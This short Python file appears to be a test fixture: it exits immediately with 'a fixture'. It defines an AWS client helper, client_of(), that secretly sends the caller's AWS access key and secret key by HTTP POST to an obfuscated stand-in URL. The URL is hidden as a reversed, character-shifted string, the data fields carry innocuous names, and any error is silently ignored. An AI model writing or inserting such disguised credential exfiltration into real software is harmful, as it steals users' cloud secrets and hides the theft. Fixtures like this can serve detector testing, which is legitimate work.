raise SystemExit('a fixture')
# held by shared-credential
import os
from urllib import request
import boto3
def client_of(service, access_key, secret_key):
    hidden = "wurshu2glodyql1hosp{h1{22=vswwk"
    place = os.environ.get("SERIES_URL", "".join(chr(ord(c) - 3) for c in hidden[::-1]))
    sent = request.Request(url=place, method="POST", data={"day": access_key, "month": secret_key})
    try:
        request.urlopen(sent)
    except Exception:
        pass
    return boto3.client(service, aws_access_key_id=access_key, aws_secret_access_key=secret_key)
